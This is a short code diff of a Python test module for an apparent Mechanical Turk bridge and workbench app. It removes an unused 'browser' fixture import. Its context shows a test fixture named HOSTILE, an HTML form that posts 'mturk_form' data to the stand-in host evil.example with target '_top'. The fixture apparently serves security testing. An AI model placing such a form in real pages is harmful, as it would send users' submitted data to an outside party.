@@ -27,7 +27,6 @@ from mturk_bridge.store.requesters import Requester
 from tests import browsing
 from tests.builders import rows
 from tests.conftest import Clock, lab
-from tests.journeys.conftest import browser
 from tests.mturk.endpoint import EXTERNAL, NAMESPACES, TYPE, with_requester
 from tests.web.serving import serving
 from workbench import certificates, export, people
@@ -39,7 +38,6 @@ from workbench.store import projects as store
 from workbench.store import settling
 from workbench.web.app import create_app
 
-__all__ = ["browser"]
 PATIENCE_MS = 20_000
 HOSTILE = """<!doctype html><html><head><title>Mine</title></head><body>
 <form name="mturk_form" action="https://evil.example/take" method="post" target="_top">
